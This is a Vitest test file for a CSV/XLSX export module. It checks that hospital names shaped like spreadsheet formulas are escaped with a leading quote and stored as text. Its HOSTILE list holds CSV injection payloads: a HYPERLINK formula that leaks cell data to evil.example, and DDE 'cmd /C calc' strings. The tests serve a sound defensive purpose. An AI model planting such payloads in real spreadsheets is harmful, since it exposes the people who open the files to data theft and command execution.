import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { COUNT, MONEY, SIGNED_MONEY } from './column-format';
import { csvCell, isFormulaLike } from './csv-cell';
import { toCsv, toWorkbook, type ExportSpec } from './export';

/** Hospital names as an attacker would put them in an imported file (OWASP's CSV injection examples). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
  '\t=1+1',
  '\r=1+1',
];

describe('csvCell', () => {
  it.each(HOSTILE)('writes %j as quoted text that starts with a single quote', (name) => {
    expect(isFormulaLike(name)).toBe(true);
    expect(csvCell(name)).toBe(`"'${name.replaceAll('"', '""')}"`);
  });

  it('leaves numbers as numbers, negative ones included, and plain decimal texts as they are', () => {
    expect(csvCell(-51.7)).toBe('-51.7');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('-3.3')).toBe('-3.3');
    expect(csvCell('+12')).toBe('+12');
    expect(csvCell('-1e-3')).toBe('-1e-3');
  });

  it('quotes only what needs it otherwise, and writes flags as 1/0 and null as empty', () => {
    expect(csvCell('市第一人民医院')).toBe('市第一人民医院');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(true)).toBe('1');
    expect(csvCell(null)).toBe('');
  });
});

interface Row {
  code: string;
  name: string;
  cases: number;
  change: number;
}

const rows: Row[] = HOSTILE.map((name, i) => ({ code: `H00${i + 1}`, name, cases: 100 + i, change: -12_345.6 * (i + 1) }));
const spec: ExportSpec<Row> = {
  filename: 'hostile',
  columns: [
    { header: '机构编码', value: (r) => r.code },
    { header: '机构名称', value: (r) => r.name },
    { header: '病例数', format: COUNT, value: (r) => r.cases },
    { header: '较基线 (万元)', format: SIGNED_MONEY, value: (r) => r.change },
    { header: '合计 (万元)', format: MONEY, value: (r) => r.change },
  ],
  rows,
  about: [{ label: '=数据集', text: '-示范' }],
};

describe('a table export with formula-like names', () => {
  it('CSV: every name reads back as its text after the single quote; numbers stay numbers', () => {
    const parsed = Papa.parse<string[]>(toCsv(spec), { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(["'=数据集", "'-示范"]);
    const body = parsed.slice(2);
    expect(body.map((r) => r[1])).toEqual(HOSTILE.map((name) => `'${name}`));
    // −12,345.60 yuan = −1.23 万元: a negative number, not neutralised
    expect(body[0]!.slice(2)).toEqual(['100', '-1.23', '-1.23']);
    for (const r of body) expect(Number.isFinite(Number(r[3]))).toBe(true);
  });

  it('XLSX: every name is a string cell, never a formula, and numbers are numbers', async () => {
    const written = await toWorkbook(ExcelJS, spec).xlsx.writeBuffer();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(written);
    const sheet = workbook.worksheets[0]!;
    // the about line, a blank row, the header row, then the rows
    HOSTILE.forEach((name, i) => {
      const cell = sheet.getCell(4 + i, 2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed; the text is otherwise as written
      expect(cell.value).toBe(name.replace('\r', '\n'));
      expect(cell.formula).toBeUndefined();
      expect(sheet.getCell(4 + i, 4).type).toBe(ExcelJS.ValueType.Number);
    });
  });
});
